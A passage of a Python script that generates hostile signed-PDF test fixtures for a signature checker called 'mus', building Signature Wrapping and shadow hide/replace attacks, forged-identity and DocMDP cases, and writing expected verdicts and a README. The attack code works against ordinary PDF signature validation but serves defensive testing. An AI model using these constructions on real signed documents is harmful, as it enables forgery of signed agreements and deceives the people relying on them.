    m.save("swa-hole.pdf", bytes(out), "refused",
           "Signature Wrapping into the /Contents hole: the manager's hole keeps the real CMS, followed inside the "
           f"same signature dictionary by `/Mallory (...)`, a literal string holding a complete `{num} 0 obj` "
           "(page 1's content stream replaced by a red box, the page's text gone). An update of only a classic xref "
           f"section and trailer points object {num} at that offset. No byte a signature covers changed and no "
           "object follows the signatures.", reason=["ambiguous", "outside its own bytes"],
           made="SWA (CCS 2019), object in the hole")


def shadow_hide(m, unsigned):
    pdf = open_pdf(unsigned)
    page = page1(pdf)
    objs = with_font(pdf, page)
    mal = pdf.make_indirect(pikepdf.Stream(pdf, MALICIOUS))
    cover = pdf.make_indirect(pikepdf.Stream(pdf, WHITE_OVER))
    page.Contents = pikepdf.Array([content_ref(page), mal, cover])
    planted = Update(unsigned).add_pdf_objects(page, mal, cover, *[o for o in objs if o.objgen != page.objgen]).write()
    cover_num = cover.objgen[0]
    pdf.close()
    signed = m.both(planted)
    u = Update(signed)
    u.free.append(cover_num)
    m.save("shadow-hide.pdf", u.write(), "refused",
           "Shadow hide: the signed page 1 draws the attacker's text and then a white box over it; after both "
           f"signatures an update holding only an xref section marks the box (object {cover_num}) free, so the "
           "text shows (qpdf, MuPDF, PDFium; poppler 24 still draws the box: readers disagree). No object is "
           "added or rewritten.", reason=["changed after signing"],
           made="Shadow hide (NDSS 2021), xref-only update")


def shadow_replace(m, signed):
    pdf = open_pdf(signed)
    fonts = page1(pdf).Resources.Font
    name, font = next((k, v) for k, v in fonts.items() if v.is_indirect)
    # The font of page 1 overwritten: another standard font, so every glyph is drawn differently.
    body = pikepdf.Dictionary(Type=pikepdf.Name.Font, Subtype=pikepdf.Name.Type1,
                              BaseFont=pikepdf.Name("/Courier-Bold"), Encoding=pikepdf.Name.WinAnsiEncoding).unparse()
    data = Update(signed).add(font.objgen[0], body).write()
    pdf.close()
    m.save("shadow-replace.pdf", data, "refused",
           f"Shadow replace: after both signatures an update overwrites page 1's font {name} (object "
           f"{font.objgen[0]}) with another font: the signed text is shown with other glyphs.",
           reason=["changed after signing"], made="Shadow replace (NDSS 2021), font overwritten")


def filled_goal(data, text):
    """An update that sets plan.1.maal to `text` with an appearance showing it."""
    pdf = open_pdf(data)
    goal = field(pdf, "plan.1.maal")
    x1, y1, x2, y2 = [float(v) for v in goal.Rect]
    ap = pdf.make_indirect(pikepdf.Stream(pdf, b"/Tx BMC q BT /Helv 10 Tf 0 g 2 6 Td " + pikepdf.String(
        text).unparse() + b" Tj ET Q EMC\n"))
    ap.Type, ap.Subtype = pikepdf.Name.XObject, pikepdf.Name.Form
    ap.BBox = pikepdf.Array([0, 0, x2 - x1, y2 - y1])
    ap.Resources = pikepdf.Dictionary(Font=pikepdf.Dictionary(Helv=helvetica()))
    goal.V = pikepdf.String(text)
    goal.AP = pikepdf.Dictionary(N=ap)
    out = Update(data).add_pdf_objects(goal, ap).write()
    pdf.close()
    return out


def shadow_replace_field(m, unsigned):
    signed = m.both(filled_goal(unsigned, "Mere tid til faglig ledelse"))
    m.save("shadow-replace-field.pdf", filled_goal(signed, "Lederen fratraeder"), "refused",
           "Shadow replace of a form value: plan.1.maal was filled in ('Mere tid til faglig ledelse', with an "
           "appearance) before both signed; after both signatures an update overwrites its value and appearance "
           "('Lederen fratraeder'). pyHanko allows form filling after approval signatures; mus does not.",
           reason=["filled in after the last signature"], pyhanko_trustworthy=False,
           made="Shadow replace (NDSS 2021), form value overwritten")


def shadow_hide_and_replace(m, unsigned):
    pdf = open_pdf(unsigned)
    page = page1(pdf)
    cat = pdf.make_indirect(pikepdf.Dictionary({k: v for k, v in pdf.Root.items()}))
    pages = pdf.make_indirect(pikepdf.Dictionary({k: v for k, v in pdf.Root.Pages.items()}))
    shadow_page = pdf.make_indirect(pikepdf.Dictionary({k: v for k, v in page.items()}))
    res = pikepdf.Dictionary({k: v for k, v in page.Resources.items()})
    res.Font = pikepdf.Dictionary({k: v for k, v in page.Resources.Font.items()})
    res.Font[FONT] = helvetica()
    mal = pdf.make_indirect(pikepdf.Stream(pdf, MALICIOUS))
    shadow_page.Resources = res
    shadow_page.Contents = pikepdf.Array([content_ref(page), mal])
    shadow_page.Parent = pages
    kids = [k for k in pdf.Root.Pages.Kids]
    kids[0] = shadow_page
    pages.Kids = pikepdf.Array(kids)
    cat.Pages = pages
    planted = Update(unsigned).add_pdf_objects(cat, pages, shadow_page, mal).write()
    cat_num = cat.objgen[0]
    pdf.close()
    signed = m.both(planted)
    data = Update(signed).write(root=cat_num)
    m.save("shadow-hide-and-replace.pdf", data, "refused",
           f"Shadow hide-and-replace: before signing a whole shadow document (catalog {cat_num}, its pages tree, "
           "a page 1 drawn over) is planted unreferenced; both sign; an update with only an xref section and a "
           f"trailer whose /Root is {cat_num} 0 R makes it the document.",
           reason=["changed after signing"], made="Shadow hide-and-replace (NDSS 2021), trailer-only update")


def identity_cases(m, unsigned, signed):
    m.save("same-key-renewed.pdf", m.both(unsigned, leader="manager-as-leader"), "refused",
           "The manager signs both fields with two CA-issued certificates on one key: the leader's field with a "
           "certificate named Łukasz Øster-Ågård (another serial), her own field as Bodil Kjærgård. Only the "
           "public key gives it away.", trust=True, reason=["key"], pyhanko_trustworthy=False,
           made="renewed certificate, same key")
    m.save("manager-in-leader-field.pdf", m.both(unsigned, leader="bodil-2"), "refused",
           "A certificate naming the manager (CN=Bodil Kjærgård, its own key) signs the leader's field; the real "
           "manager signs hers.", reason=["manager"], pyhanko_trustworthy=False,
           made="signer named as the other party")
    m.save("wrong-name.pdf", m.both(unsigned, leader="mallory"), "accepted",
           "CN=Mallory Madsen (own key, same CA) signs the leader's field; the manager is right. Without --trust "
           "signers are not verified: accepted.", pyhanko_trustworthy=False, made="signer named as neither")
    m.expected["wrong-name.pdf"]["note"] += " See wrong-name-trusted."
    m.expected["wrong-name-trusted"] = dict(m.expected["wrong-name.pdf"], mus="refused", trust=True,
                                            reason_contains=["Mallory Madsen"], file="wrong-name.pdf",
                                            note="wrong-name.pdf with --trust ca.pem: the leader's field is signed by "
                                                 "someone who is neither the leader nor the manager.")
    # Another leader's guide whose XMP guide id was set to the first guide's before signing.
    with open_pdf(unsigned) as pdf:
        first_id = re.search(GUIDE_ID, pdf.Root.Metadata.read_bytes().decode())[1]
    other = m.guide("Mallory Madsen")
    pdf = open_pdf(other)
    meta = pdf.Root.Metadata
    xmp = meta.read_bytes().decode()
    own_id = re.search(GUIDE_ID, xmp)[1]
    xmp = xmp.replace(own_id, first_id)
    body = xmp.encode()
    planted = Update(other).add(meta.objgen[0], stream_body(body, Type=b"/Metadata", Subtype=b"/XML")).write()
    pdf.close()
    m.save("same-guide-id-first.pdf", signed, "accepted",
           "The first leader's guide, signed by both (made as tests/fixtures/signed/signed-both.pdf is; also the "
           "file every hostile case here starts from).", made="honest")
    m.save("same-guide-id-other-leader.pdf", m.both(planted, leader="mallory"), "refused",
           f"A guide made for Mallory Madsen whose XMP mus:guideId was changed to the first guide's ({first_id}) "
           "before signing; signed by Mallory and the manager, so the signatures are intact. Archived after "
           "same-guide-id-first.pdf it must be refused, not filed as version 2.",
           reason=["guide"], archive_before=["same-guide-id-first.pdf"], pyhanko_trustworthy=False,
           made="reused guide id")


def service_cases(m, unsigned, signed):
    m.save("seal-after.pdf", m.sign(signed, "Segl", "seal", "--use-pades"), "accepted",
           "Both fields signed, then a signing service seals the guide in a new, invisible field `Segl` "
           "(CN=Penneo A/S Seal,O=Penneo A/S, same CA), PAdES.", trust=True, made="service seal after")
    d = m.sign(unsigned, "Signature1", "leader")
    m.save("own-fields.pdf", m.sign(d, "Signature2", "manager", "--use-pades"), "accepted",
           "Leader and manager sign in new fields of their own (`Signature1`, `Signature2`), as services do; the "
           "guide's two fields stay empty. Matched to leader and manager by the certificates' names.",
           trust=True, made="service fields")
    d = m.sign(unsigned, "Certificering", "kommune", "--certify", "--use-pades")
    m.save("certified-first.pdf", m.both(d), "accepted",
           "A certification signature (DocMDP P=2, CN=Sønderborg Kommune) first, then both personal signatures "
           "in the guide's fields.", trust=True, made="certification then approvals")
    sealed = m.sign(unsigned, "Segl", "seal", "--use-pades")
    m.save("seal-only.pdf", sealed, "refused",
           "Only a service seal, no personal signature: not signed by both.", trust=True, reason=[],
           pyhanko_trustworthy=False, made="seal alone")
    m.expected["seal-only-allow-unsigned"] = dict(m.expected["seal-only.pdf"], mus="unsigned", allow_unsigned=True,
                                                  reason_contains=[], file="seal-only.pdf",
                                                  note="seal-only.pdf with --allow-unsigned: recorded as unsigned, "
                                                       "the sealer (CN=Penneo A/S Seal) named in the record.")


def docmdp_cases(m, unsigned):
    """A certification with each DocMDP level, then both personal signatures (issue 18, 7)."""
    d = m.sign_api(unsigned, "Certificering", "kommune", pades=True, certify=1)
    m.save("certified-no-changes.pdf", m.both(d, api=True), "refused",
           "A certification signature with DocMDP P=1 (no changes permitted, CN=Sønderborg Kommune), then both "
           "personal signatures in the guide's fields (pyHanko's signer refuses that; bypassed). P=1 forbids "
           "every later change, signatures included; pyHanko's validator judges the certification "
           "ILLEGAL_MODIFICATIONS.", trust=True, reason=["certification", "Sønderborg Kommune", "P=1",
                                                         "permits no changes", "revision 3 of 4"],
           made="certification permitting no changes, then approvals")
    d = m.sign_api(unsigned, "Certificering", "kommune", pades=True, certify=2)
    m.save("certified-form-filling.pdf", m.both(d, api=True), "accepted",
           "As certified-no-changes.pdf with DocMDP P=2 (form filling and signing permitted): signing after it "
           "is what it allows.", trust=True, made="certification permitting form filling, then approvals")
    d = m.sign_api(unsigned, "Certificering", "kommune", pades=True, certify=3)
    m.save("certified-annotations.pdf", m.both(d, api=True), "accepted",
           "As certified-no-changes.pdf with DocMDP P=3 (form filling, signing and annotations permitted).",
           trust=True, made="certification permitting annotations, then approvals")


README_HEAD = """# Hostile and signing-service-style signed guides

Made by `python3 scripts/make-attack-fixtures.py [--mus target/release/mus] [OUT_DIR]` (openssl,
qpdf, pikepdf, pyHanko with its CLI). Every file starts from a freshly made guide (`mus guide
--role leder-af-medarbejdere --focus saet-retning --name "Łukasz Øster-Ågård" --manager "Bodil
Kjærgård" --unit "Dagtilbud Nord" --date 2027-01-15`) signed with pyHanko: the leader's field
(`underskrift.leder.underskrift`) by an RSA key, `CN=Łukasz Øster-Ågård`, adbe.pkcs7.detached;
the manager's (`underskrift.leders-leder.underskrift`) by an ECDSA P-256 key, `CN=Bodil
Kjærgård`, PAdES. Every certificate here (also Mallory Madsen's, the seal `CN=Penneo A/S
Seal,O=Penneo A/S` and the certifier `CN=Sønderborg Kommune`) is issued by the one test CA in
`ca.pem`; the private keys were made in a temp dir and deleted. Regenerating changes every byte.

The hostile files follow the published attacks: the Incremental Saving Attack (ISA), Signature
Wrapping Attack (SWA) and Universal Signature Forgery (USF) of Mladenov et al., "1 Trillion
Dollar Refund: How To Spoof PDF Signatures" (CCS 2019), and the shadow attacks hide, replace and
hide-and-replace of Mainka, Mladenov, Rohlmann, "Shadow Attacks: Hiding and Replacing Content in
Signed PDFs" (NDSS 2021), built against this guide by a small raw incremental-update writer in the
script; and the cases issue 9 found in mus. "Page 1 changed" means: a red box with the text
"Lederen fratræder 31.01.2027" drawn over page 1.

`expected.json`, one entry per case (a case that reuses another case's file names it in `file`):
`mus` is the verdict of `mus archive add` (`refused`, `accepted`, or `unsigned`: accepted and
recorded as unsigned), run with `--trust ca.pem` when `trust` is true and with
`--allow-unsigned` when `allow_unsigned` is; a refusal's reason contains every
`reason_contains` keyword (case-insensitively; loose on purpose); `archive_before` lists files
archived (into the same fresh archive) first; `trust_file` names the CA of a case made on its own
(`--step`, with a CA of its own) where it is not `ca.pem`. `pyhanko` is what `pyhanko sign validate
--soft-revocation-check --trust-replace --trust ca.pem` said (pyHanko 0.38, one
`field=STATUS(flags)` per signature, or its error); `pyhanko_trustworthy` is false where pyHanko
is fooled (`pyhanko_fooled`) or judges by another policy than mus (it allows form filling and
/Info changes after approval signatures and knows nothing of leader and manager), so its verdict
is not compared.
`python3 scripts/signature-matrix.py --mus target/release/mus` regenerates all of it in a temp dir
and compares mus, pyHanko and these expectations.

| case | how it is made | mus | pyHanko |
|---|---|---|---|
"""


def write_readme(out, expected):
    rows = []
    for name, c in expected.items():
        flags = [f for f, on in (("--trust", c.get("trust")), ("--allow-unsigned", c.get("allow_unsigned"))) if on]
        verdict = c["mus"] + (f" ({', '.join(flags)})" if flags else "")
        if c.get("archive_before"):
            verdict += f", after archiving {', '.join(c['archive_before'])}"
        ph = (c.get("pyhanko") or "not recorded").replace("|", "/")
        if c.get("pyhanko_fooled"):
            ph += " — **pyHanko fooled**: not compared"
        elif not c.get("pyhanko_trustworthy", True):
            ph += " — other policy than mus: not compared"
        made = f"*{c['made']}*: " if c.get("made") else ""
        rows.append(f"| `{name}` | {made}{c['note'].replace('|', '/')} | {verdict} | {ph} |")
    (out / "README.md").write_text(README_HEAD + "\n".join(rows) + "\n")


# The groups of cases, in the order they are made.
STEPS = {
    "isa": lambda m, unsigned, signed: isa(m, signed),
    "hybrid": lambda m, unsigned, signed: hybrid(m, signed),
    "dangling": lambda m, unsigned, signed: dangling(m, unsigned),
    "dss": lambda m, unsigned, signed: dss(m, unsigned),
    "third-field": lambda m, unsigned, signed: third_field(m, signed),
    "info": lambda m, unsigned, signed: info(m, signed),
    "usf": lambda m, unsigned, signed: usf(m, unsigned, signed),
    "swa": lambda m, unsigned, signed: swa(m, signed),
    "swa-hole": lambda m, unsigned, signed: swa_hole(m, signed),
    "shadow-hide": lambda m, unsigned, signed: shadow_hide(m, unsigned),
    "shadow-replace": lambda m, unsigned, signed: shadow_replace(m, signed),
    "shadow-replace-field": lambda m, unsigned, signed: shadow_replace_field(m, unsigned),
    "shadow-hide-and-replace": lambda m, unsigned, signed: shadow_hide_and_replace(m, unsigned),
    "identity": identity_cases,
    "service": lambda m, unsigned, signed: service_cases(m, unsigned, signed),
    "docmdp": lambda m, unsigned, signed: docmdp_cases(m, unsigned),
}


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--mus", help="the mus binary (default: build target/release/mus)")
    ap.add_argument("out", nargs="?", default=str(ROOT / "tests/fixtures/attacks"))
    ap.add_argument("--step", choices=sorted(STEPS), help="make only this group of cases, with a CA of its own")
    ap.add_argument("--ca", help="with --step: the file name of that CA in OUT_DIR (default: <step>-ca.pem)")
    args = ap.parse_args()
    if args.ca and not args.step:
        ap.error("--ca names the CA of one --step")
    for tool in ("openssl", "qpdf", "pyhanko"):
        if not shutil.which(tool):
            sys.exit(f"make-attack-fixtures: {tool} is missing (apt-get install openssl qpdf; pip install pyhanko "
                     "pyhanko-cli pikepdf)")
    mus = args.mus
    if not mus:
        run(["cargo", "build", "--release", "--quiet"], cwd=ROOT)
        mus = ROOT / "target/release/mus"
    mus = Path(mus).resolve()
    out = Path(args.out)
    out.mkdir(parents=True, exist_ok=True)
    with tempfile.TemporaryDirectory() as tmp:
        work = Path(tmp)
        pki = Pki(work)
        pki.leaf("leader", f"/O=MUS Test Kommune/CN={LEADER}")
        p256 = ("-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256")
        pki.leaf("manager", f"/O=MUS Test Kommune/CN={MANAGER}", p256)
        pki.leaf("manager-as-leader", f"/O=MUS Test Kommune/CN={LEADER}", key="manager")
        pki.leaf("bodil-2", f"/O=MUS Test Kommune/CN={MANAGER}", p256)
        pki.leaf("mallory", "/O=MUS Test Kommune/CN=Mallory Madsen")
        pki.leaf("seal", "/O=Penneo A\\/S/CN=Penneo A\\/S Seal")
        pki.leaf("kommune", "/O=Sønderborg Kommune/CN=Sønderborg Kommune")
        m = Maker(mus, work, out)
        unsigned = m.guide()
        signed = m.both(unsigned)
        ca_name = (args.ca or f"{args.step}-ca.pem") if args.step else "ca.pem"
        shutil.copy(work / "ca.pem", out / ca_name)
        os.chmod(out / ca_name, 0o644)
        for name, step in STEPS.items():
            if args.step in (None, name):
                step(m, unsigned, signed)
        old = {}
        if (out / "expected.json").exists():
            old = json.loads((out / "expected.json").read_text())
        for k, v in m.expected.items():  # keep pyHanko's recorded verdicts across regenerations
            if not v["pyhanko"] and k in old:
                v["pyhanko"] = old[k].get("pyhanko", "")
            if args.step:
                v["trust_file"] = ca_name
        expected = dict(old, **m.expected) if args.step else m.expected
        (out / "expected.json").write_text(json.dumps(expected, indent=2, ensure_ascii=False) + "\n")
        write_readme(out, expected)
    print(f"make-attack-fixtures: wrote {len(m.expected)} cases to {out}")


if __name__ == "__main__":
    main()
